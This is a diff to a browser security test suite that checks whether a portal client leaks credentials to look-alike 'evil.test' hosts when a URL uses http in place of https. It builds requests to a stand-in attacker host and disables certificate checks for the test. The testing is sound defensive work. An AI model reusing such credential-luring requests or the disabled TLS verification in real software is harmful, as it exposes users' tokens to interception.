@@ -1,5 +1,6 @@
 /** Addresses that look like the portal's to a person, to careless code, or to the server behind them. */
 import { chromiumArgs } from '../../scripts/chromium.js';
+import { startTwoSchemes } from '../two-schemes.js';
 import {
   expect,
   registered,
@@ -10,12 +11,16 @@ import {
   type Portal,
   type TestApp,
 } from './attack.js';
+import { anyOrigin } from './liar.js';
 
 // Real names for hosts of the attacker: the browser resolves them to this machine, where the portal's own log sees them.
 test.use({
   launchOptions: async ({ launchOptions }, use) => {
     const rules = ['evil.test', '*.evil.test'].map((host) => `MAP ${host} 127.0.0.1`).join(',');
-    await use({ ...launchOptions, args: [...chromiumArgs, `--host-resolver-rules=${rules}`] });
+    await use({
+      ...launchOptions,
+      args: [...chromiumArgs, `--host-resolver-rules=${rules}`, '--ignore-certificate-errors'],
+    });
   },
 });
 
@@ -207,4 +212,33 @@ test('S4: the portal’s host as the user of another', async ({ app, naive, port
   // Control: browsers hand such an address to nobody's worker; the one that it comes to would be signed.
   expect(await attack(await naive({ own: 'includes' }))).toEqual([]);
   expect(await ask(await naive({ own: 'everything' }), url.replace(/\/\/.*@/, '//'))).not.toEqual([]);
+});
+
+test('S4: the portal’s address with http in place of https', async ({ variant, naive, portal }) => {
+  const heard: { url: string; leaks: string[] }[] = [];
+  const server = await startTwoSchemes((request, response) => {
+    const scheme = 'encrypted' in request.socket ? 'https' : 'http';
+    const headers = JSON.stringify(request.headers);
+    heard.push({ url: scheme + request.url, leaks: portal.log.leaks(`${request.url} ${headers}`) });
+    response.writeHead(200, { ...anyOrigin, 'content-type': 'application/json' }).end('{}');
+  });
+  const folder = `://gis.evil.test:${server.port}/rest/services/`;
+  /** Labels of what was sent by that scheme, in every way that a page has to ask. */
+  const sent = async (target: TestApp, scheme: 'http' | 'https'): Promise<string[]> => {
+    heard.length = 0;
+    await target.fetch(`${scheme}${folder}x/FeatureServer/0?f=json`);
+    await target.loadImage(`${scheme}${folder}x/MapServer/tile/0/0/0`);
+    await target.loadImage(`${scheme}${folder}x/MapServer/tile/0/0/0`, 'anonymous');
+    expect(heard.filter(({ url }) => url.startsWith(`${scheme}/`)).length).toBeGreaterThan(1);
+    return heard.flatMap(({ leaks }) => leaks);
+  };
+  expect(await sent(await naive({ own: 'includes', more: `https${folder}` }), 'http'), 'control').not.toEqual(
+    [],
+  );
+  const ours = await signedIn(
+    await variant({ config: registered({ resources: [portal.hostedUrl, `https${folder}`] }) }),
+  );
+  expect(await sent(ours, 'https')).not.toEqual([]);
+  expect(await sent(ours, 'http')).toEqual([]);
+  await server.close();
 });
